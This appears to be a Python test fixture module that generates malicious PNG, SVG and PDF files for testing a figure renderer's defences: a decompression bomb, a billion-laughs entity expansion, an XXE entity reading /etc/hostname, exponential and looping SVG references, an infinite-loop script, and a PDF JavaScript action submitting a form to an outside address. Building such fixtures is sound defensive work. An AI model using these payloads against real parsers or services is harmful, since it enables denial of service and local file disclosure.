"""Figures that an agent could write to do harm, by name: their bytes, and what is said of them."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {}>{}</svg>'
)
BOX = 'width="200" height="100"'


def png_of(width: int, height: int, content: bytes = b"") -> bytes:
    """Return a PNG that says it has this size; its pixels are as many zeros as `content`."""
    chunks = [(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))]
    chunks += [(b"IDAT", content), (b"IEND", b"")]
    body = b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in chunks
    )
    return b"\x89PNG\r\n\x1a\n" + body


def svg_of(content: str, attributes: str = BOX, before: str = "") -> bytes:
    """Return an SVG with something in it."""
    return f'<?xml version="1.0"?>{before}{SVG.format(attributes, content)}'.encode()


def pdf_of(*objects: str, pages: str = "[3 0 R]", count: int = 1) -> bytes:
    """Return a PDF whose first object is the catalogue's further entries, then pages."""
    catalogue, page, *others = objects
    bodies = [
        f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>",
        f"<< /Type /Pages /Kids {pages} /Count {count} >>",
        f"<< /Type /Page /Parent 2 0 R {page} >>",
        *others,
    ]
    out = io.BytesIO(b"%PDF-1.4\n")
    out.seek(0, io.SEEK_END)
    places = []
    for number, body in enumerate(bodies, start=1):
        places.append(out.tell())
        out.write(f"{number} 0 obj\n{body}\nendobj\n".encode())
    start = out.tell()
    lines = "".join(f"{place:010} 00000 n \n" for place in places)
    size = len(bodies) + 1
    out.write(f"xref\n0 {size}\n0000000000 65535 f \n{lines}".encode())
    out.write(f"trailer\n<< /Size {size} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode())
    return out.getvalue()


def _bomb() -> bytes:
    pixels = zlib.compress(bytes(100 * 2**20), 9)
    return png_of(30_000, 28_000, pixels)


def _uses() -> str:
    """Return copies of copies, 12 to the power of 8 of them."""
    nested = "".join(
        f'<g id="g{n}">' + f'<use xlink:href="#g{n - 1}"/>' * 12 + "</g>" for n in range(1, 9)
    )
    return f'<defs><rect id="g0" width="1" height="1"/>{nested}</defs><use xlink:href="#g8"/>'


def refused() -> dict[str, bytes]:
    """Return figures that cannot be drawn, by name."""
    entities = '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]>'
    reading = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    whole = io.BytesIO()
    Image.new("RGB", (80, 80), "red").save(whole, "PNG")
    return {
        "bomb.png": _bomb(),
        "endless.png": png_of(2**31 - 1, 2**31 - 1),
        "cut.png": whole.getvalue()[:60],
        "text.jpg": b"no image at all",
        "png_inside.gif": whole.getvalue(),
        "entities.svg": svg_of("<text>&b;</text>", before=entities),
        "reading.svg": svg_of("<text>&x;</text>", before=reading),
        "deep.svg": svg_of("<g>" * 5000 + "</g>" * 5000),
        "copies_of_copies.svg": svg_of(_uses()),
        "malformed.svg": svg_of("<g>"),
        "html.svg": b"<html><body/></html>",
        "empty.pdf": b"",
        "broken.pdf": b"%PDF-1.4\nnothing",
        "thin.pdf": pdf_of("", "/MediaBox [0 0 14000 1]"),
        "no_pages.pdf": pdf_of("", "", pages="[]", count=0),
    }


def drawn() -> dict[str, bytes]:
    """Return figures that are drawn without the harm, by name."""
    data = "<< /Type /Filespec /F (x.exe) /UF (x.exe) >>"
    script = (
        "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://x'\\)) >>"
    )
    huge = "/MediaBox [0 0 14400 14400]"
    outside = '<image xlink:href="{}" width="200" height="100"/>'
    places = ("file://{}", "{}", "http://localhost/{}")
    images = "".join(outside.format(place.format("SECRET")) for place in places)
    return {
        "script.pdf": pdf_of(script, huge),
        "embedded.pdf": pdf_of(
            "/Names << /EmbeddedFiles << /Names [(x) 4 0 R] >> >>", "/MediaBox [0 0 90 90]", data
        ),
        "outside.svg": svg_of(images),
        "scripted.svg": svg_of("<script>while(true){}</script><rect width='9' height='9'/>"),
        "loop.svg": svg_of('<g id="a"><use xlink:href="#a"/></g>'),
        "huge.svg": svg_of("<rect width='9' height='9'/>", 'width="999999999" height="999999999"'),
    }
